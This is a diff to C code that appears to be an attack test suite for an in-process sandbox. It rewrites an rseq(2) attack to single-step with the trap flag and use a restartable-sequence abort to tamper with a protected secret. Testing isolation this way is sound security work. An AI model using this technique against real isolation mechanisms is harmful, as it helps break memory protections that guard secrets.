@@ -323,7 +323,8 @@ static bool changes_an_argument(struct target *target) {
 
 /* --- restartable sequences: rseq(2) --- */
 
-static struct target *rseq_target;
+#define TRAP_FLAG 0x100
+
 static volatile uint64_t *volatile rseq_secret UNUSED;
 static struct rseq_cs section __attribute__((aligned(32)));
 extern char mm_rseq_abort[];
@@ -346,45 +347,49 @@ static void find_code(const struct mapping *mapping, void *unused) {
   section.post_commit_offset = mapping->high - mapping->low;
 }
 
-static void *disturb(void *thread) {
-  for (;;) {
-    pthread_kill((pthread_t)thread, SIGUSR1);
-    usleep(300);
-  }
-  return NULL;
+static struct rseq *rseq_area;
+static int rseq_steps;
+
+/* Each instruction traps. Before the chosen one of the Matchmaker the section is announced: the next trap is a signal
+ * within it. Nothing traps any more where the image's FS is loaded. */
+static void announce(int signal, siginfo_t *info, void *context) {
+  greg_t *registers = ((ucontext_t *)context)->uc_mcontext.gregs;
+  uint64_t fs;
+  (void)signal, (void)info;
+  __asm__ volatile("movq %%fs:0, %0" : "=r"(fs));
+  bool is_inside = registers[REG_RIP] >> 45 == 1;
+  if (is_inside && --rseq_steps == 0) rseq_area->rseq_cs = (uint64_t)&section;
+  if (fs >> 45 == 1 || rseq_steps < 0 || (!is_inside && rseq_steps == 0))
+    registers[REG_EFL] &= ~TRAP_FLAG;
 }
 
-static void do_nothing(int signal) { (void)signal; }
-
-static struct rseq *rseq_area(void) {
-  return (struct rseq *)((char *)__builtin_thread_pointer() + __rseq_offset);
+static void handle_traps(struct target *target) {
+  (void)target;
+  sigaction(SIGTRAP,
+            &(struct sigaction){.sa_sigaction = announce, .sa_flags = SA_SIGINFO | SA_ONSTACK},
+            NULL);
 }
 
-static _Noreturn void call_until_interrupted(void) {
-  struct rseq *area = rseq_area();
-  uint64_t (*keep)(uint64_t) = (uint64_t(*)(uint64_t))stub_of(rseq_target->image, "keep");
-  pthread_t thread;
-  pthread_create(&thread, NULL, disturb, (void *)pthread_self());
-  for (int i = 0; i < 1000; i++) {
-    area->rseq_cs = (uint64_t)&section;
-    keep(SECRET);
-  }
-  _exit(0);
+/* Its exit status is 77 if the secret could be changed, 1 if the call has got to the image. */
+static _Noreturn void call_interrupted(struct target *target, int steps) {
+  uint64_t (*keep)(uint64_t) = (uint64_t(*)(uint64_t))stub_of(target->image, "keep");
+  dup2(open("/dev/null", O_WRONLY | O_CLOEXEC), 2);
+  for (int i = 0; i < 3; i++) keep(SECRET); /* what it needs is known from now on */
+  rseq_area = (struct rseq *)((char *)__builtin_thread_pointer() + __rseq_offset);
+  rseq_steps = steps;
+  __asm__ volatile("pushfq\n\torq %0, (%%rsp)\n\tpopfq" : : "i"(TRAP_FLAG) : "memory", "cc");
+  keep(SECRET);
+  _exit(rseq_steps > 0);
 }
 
 static bool is_interrupted(struct target *target) {
-  struct sigaction action = {.sa_handler = do_nothing, .sa_flags = SA_RESTART};
-  rseq_target = target;
+  int status = 0;
   rseq_secret = target->secret;
   section.abort_ip = (uint64_t)mm_rseq_abort;
   each_mapping(1ul << 45, (1ul << 45) + SLOT_BYTES, find_code, NULL);
-  sigaction(SIGUSR1, &action, NULL);
-  /* Not registered any more: rseq(2). */
-  bool is_gone = (int)rseq_area()->cpu_id < 0;
-  for (int i = 0; i < (is_gone ? 5 : 200); i++) {
-    int status;
+  for (int steps = 1; status != 1 << 8 && steps < 5000; steps += 16) {
     pid_t child = fork();
-    if (child == 0) call_until_interrupted();
+    if (child == 0) call_interrupted(target, steps);
     waitpid(child, &status, 0);
     if (WIFEXITED(status) && WEXITSTATUS(status) == 77) return true;
   }
@@ -449,6 +454,7 @@ static const struct attack attacks[] = {
      .run = is_interrupted,
      .succeeds = BUT_KEYS,
      .closes = true,
+     .before = handle_traps,
      .applies = has_rseq},
 };
 
